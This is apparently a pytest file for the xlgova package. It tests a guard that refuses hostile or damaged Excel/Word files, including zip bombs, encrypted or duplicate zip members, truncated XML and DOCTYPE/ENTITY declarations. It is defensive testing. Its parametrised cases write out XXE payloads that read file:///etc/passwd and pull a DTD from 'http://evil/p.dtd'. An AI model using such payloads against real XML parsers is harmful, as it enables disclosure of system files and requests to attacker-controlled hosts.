"""xlgova.ooxml.guard: what each bad file is called, and the limits on hostile zips (bombs, entities)."""
from __future__ import annotations

import json
import subprocess
import zipfile

import pytest

from xlgova.limits import ZipLimits

from _hardening import CASES, PY, ROOT, case_path, corpus, sha  # noqa: F401  (corpus is a fixture)
from _bad_input_cases import _zip  # importable once _hardening has loaded the generator
from xlgova.ooxml import guard
from xlgova.errors import XlgovaError

GUARD_REFUSES = [c.name for c in CASES.values() if c.category in ("文件类型", "损坏", "安全")]
GUARD_PASSES = [c.name for c in CASES.values() if c.category in ("结构", "数值", "路径") and c.name != "other_template"]


@pytest.mark.parametrize("name", GUARD_REFUSES)
def test_guard_names_what_the_file_is(corpus, name):
    case = CASES[name]
    path = case_path(corpus, name)
    before = sha(path)
    with pytest.raises(XlgovaError) as info:
        guard.check_workbook(path)
    msg = str(info.value)
    assert msg.startswith(str(path)), msg  # the file is named first
    for word in case.says:
        assert word in msg, (word, msg)
    assert sha(path) == before


@pytest.mark.parametrize("name", GUARD_PASSES + ["other_template"])
def test_guard_lets_real_workbooks_through(corpus, name):
    assert guard.check_workbook(case_path(corpus, name)) == case_path(corpus, name)


def test_guard_on_documents(corpus, tmp_path):
    guard.check_document(case_path(corpus, "docx_as_xlsx"))
    with pytest.raises(XlgovaError, match="这是 Excel 工作簿"):
        guard.check_document(case_path(corpus, "chinese_path"))
    with pytest.raises(XlgovaError, match=r"\.doc"):
        guard.check_document(case_path(corpus, "doc_renamed"))


def test_missing_and_folder(tmp_path):
    with pytest.raises(XlgovaError, match="文件不存在"):
        guard.check_workbook(tmp_path / "无此文件.xlsx")
    with pytest.raises(XlgovaError, match="文件夹"):
        guard.check_workbook(tmp_path)


def _book(part: bytes) -> dict[str, bytes]:
    return {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": part}


@pytest.mark.parametrize("part", [
    b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://example.com/x">]><sst>&e;</sst>',
    b'<?xml version="1.0"?>\n<!-- a comment first -->\n<!doctype a [<!ENTITY e "x">]><sst/>',
    b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><sst/>',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><sst/>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><sst/>'.encode("utf-16"),
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><sst/>'.encode("utf-16-be"),
    b"\xef\xbb\xbf<!ENTITY e 'x'><sst/>",
], ids=["external", "after-comment", "system-dtd", "parameter", "utf16le", "utf16be", "bom"])
def test_doctype_and_entities_refused_in_any_encoding(tmp_path, part):
    path = tmp_path / "entity.xlsx"
    path.write_bytes(_zip(_book(part)))
    with pytest.raises(XlgovaError, match="DOCTYPE/ENTITY"):
        guard.check_workbook(path)


def test_entity_words_as_cell_text_are_not_refused(tmp_path):
    """A clerk may type "<!DOCTYPE" into a cell: it is escaped text in the body, not a declaration."""
    path = tmp_path / "text.xlsx"
    path.write_bytes(_zip(_book(b'<?xml version="1.0"?><sst><si><t>&lt;!DOCTYPE x [&lt;!ENTITY</t></si><si><t>&lt;!ENTITY y&gt;</t></si></sst>')))
    guard.check_workbook(path)


def test_endless_prolog_refused(tmp_path):
    path = tmp_path / "prolog.xlsx"
    path.write_bytes(_zip(_book(b"<?xml version='1.0'?>" + b"<!-- padding -->" * 10_000 + b"<sst/>")))
    with pytest.raises(XlgovaError, match="根元素"):
        guard.check_workbook(path)


def test_limits_are_enforced_on_real_sizes(corpus):
    path = case_path(corpus, "chinese_path")
    with pytest.raises(XlgovaError, match="解压后过大"):
        guard.check_workbook(path, ZipLimits(member_bytes=10_000))
    with pytest.raises(XlgovaError, match="总大小"):
        guard.check_workbook(path, ZipLimits(total_bytes=50_000))
    with pytest.raises(XlgovaError, match="文件数"):
        guard.check_workbook(path, ZipLimits(members=5))
    with pytest.raises(XlgovaError, match="文件过大"):
        guard.check_workbook(path, ZipLimits(file_bytes=1000))
    with pytest.raises(XlgovaError, match="压缩比"):
        guard.check_workbook(path, ZipLimits(ratio=2, ratio_floor=1000))


def test_zip_encrypted_member_and_odd_compression_refused(tmp_path, corpus):
    data = bytearray(case_path(corpus, "chinese_path").read_bytes())
    # set the "encrypted" flag on every central directory entry
    i = 0
    while (i := data.find(b"PK\x01\x02", i)) != -1:
        data[i + 8] |= 1
        i += 4
    path = tmp_path / "zipcrypto.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(XlgovaError, match="加密"):
        guard.check_workbook(path)
    odd = tmp_path / "bzip2.xlsx"
    with zipfile.ZipFile(odd, "w", zipfile.ZIP_BZIP2) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(XlgovaError, match="压缩方式"):
        guard.check_workbook(odd)


def test_duplicate_parts_refused(tmp_path):
    path = tmp_path / "dup.xlsx"
    with pytest.warns(UserWarning):
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("xl/workbook.xml", "<workbook/>")
            z.writestr("xl/workbook.xml", "<workbook><evil/></workbook>")
    with pytest.raises(XlgovaError, match="重名"):
        guard.check_workbook(path)


BOUNDED = """
import json, resource, sys, time
from xlgova.ooxml import guard
from xlgova.errors import XlgovaError
t = time.perf_counter()  # the refusal itself; interpreter start and imports are not the file's doing
try:
    guard.check_workbook(sys.argv[1]); outcome = "accepted"
except XlgovaError as e:
    outcome = str(e)
seconds = time.perf_counter() - t
try:  # peak RSS of this program alone; ru_maxrss would include what a large parent held when it forked us
    mb = next(int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM")) / 1024
except OSError:
    mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps({"seconds": seconds, "mb": mb, "outcome": outcome}))
"""


@pytest.mark.parametrize("name", ["zip_bomb", "zip_bomb_lying", "entity_expansion", "many_members"])
def test_hostile_files_refused_fast_in_little_memory(corpus, name):
    """The issue's bound: a zip bomb is refused within 2 s using < 200 MB (a fresh process, import included)."""
    p = subprocess.run([PY, "-c", BOUNDED, str(case_path(corpus, name))], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert p.returncode == 0 and p.stdout.strip(), (p.returncode, p.stdout, p.stderr[-2000:])
    data = json.loads(p.stdout)
    assert data["outcome"] != "accepted"
    assert data["seconds"] < 2.0, data
    assert data["mb"] < 200, data


def test_bomb_through_the_cli_is_bounded(corpus):
    script = ("import resource, subprocess, sys, time; t = time.perf_counter();"
              "p = subprocess.run([sys.executable, '-m', 'xlgova', 'validate', sys.argv[1]], capture_output=True, text=True);"
              "print(p.returncode, time.perf_counter() - t, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024);"
              "print(p.stderr)")
    p = subprocess.run([PY, "-c", script, str(case_path(corpus, "zip_bomb"))], capture_output=True, text=True, cwd=ROOT, timeout=60)
    first, _, stderr = p.stdout.partition("\n")
    code, seconds, mb = first.split()
    assert int(code) == 2 and "压缩" in stderr and "Traceback" not in stderr
    assert float(seconds) < 5.0  # interpreter start and command discovery included
    assert float(mb) < 200


def test_sniff_words():
    assert "CSV" in guard.sniff_text("单位,数量\n甲,1\n".encode("gb18030"))
    assert "纯文本" in guard.sniff_text("说明文字，没有表格。".encode())
    assert "网页" in guard.sniff_text(b"<!DOCTYPE html><html><table>")
    assert "网页存档" in guard.sniff_text(b"MIME-Version: 1.0\r\nContent-Type: multipart/related")
    assert "Excel 2003 XML" in guard.sniff_text(b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">')
    assert "PDF" in guard.sniff_text(b"%PDF-1.4")
    assert "RTF" in guard.sniff_text(b"{\\rtf1\\ansi")
    assert "CSV" in guard.sniff_text("a,b\n".encode("utf-16"))
    assert guard.sniff_text(bytes(range(256))) == ""


@pytest.mark.parametrize("name", ["empty", "encrypted", "zip_bomb", "zip_bomb_lying", "external_entity", "xls_renamed", "truncated", "csv_renamed"])
def test_guard_on_bytes_in_memory_says_the_same(corpus, name):
    """Readers that already hold the file's bytes get the same answer as from the path."""
    path = case_path(corpus, name)
    with pytest.raises(XlgovaError) as from_path:
        guard.check_workbook(path)
    with pytest.raises(XlgovaError) as from_bytes:
        guard.check_workbook(path, data=path.read_bytes())
    assert str(from_bytes.value) == str(from_path.value)


def test_corpus_script_runs_as_documented(tmp_path, capsys):
    """`python scripts/make_bad_inputs.py OUTDIR` (docs/robustness.md) writes every case and a manifest."""
    from _hardening import GEN

    assert GEN.main([str(tmp_path / "语料 目录")]) == 0
    manifest = json.loads((tmp_path / "语料 目录" / "manifest.json").read_text(encoding="utf-8"))
    names = {c["name"] for c in manifest["cases"]}
    assert names == set(CASES) - {"big_junk"}
    for c in manifest["cases"]:
        made = tmp_path / "语料 目录" / c["file"]
        assert made.exists() or made.is_symlink()  # a symlink loop exists only as a link
    assert "cases in" in capsys.readouterr().out


@pytest.mark.parametrize("part,ok", [
    (b'<?xml version="1.0"?><sst count="1"><si><t>a</t></si></sst>', True),
    (b'<?xml version="1.0"?><x:sst xmlns:x="urn:x"><x:si/></x:sst >\r\n<!-- saved by a tool -->\n<?pi x?>\n', True),
    (b'<?xml version="1.0"?><sst/>', True),
    ('<?xml version="1.0" encoding="UTF-16"?><sst><si/></sst>'.encode("utf-16"), True),
    (b'<?xml version="1.0"?><sst count="1"><si><t>a</t></si>', False),
    (b'<?xml version="1.0"?><sst count="1"><si><t>a</t></si></ss', False),
    ('<?xml version="1.0" encoding="UTF-16"?><sst><si/>'.encode("utf-16"), False),
], ids=["plain", "prefix-comment-pi", "empty-root", "utf16", "cut", "cut-in-tag", "utf16-cut"])
def test_xml_part_must_end_with_its_root(tmp_path, part, ok):
    """A part cut short inside a valid zip (a buggy exporter) is damaged, even where a lenient parser would
    quietly read what is there."""
    path = tmp_path / "cut.xlsx"
    path.write_bytes(_zip(_book(part)))
    if ok:
        guard.check_workbook(path)
    else:
        with pytest.raises(XlgovaError, match="XML 不完整"):
            guard.check_workbook(path)
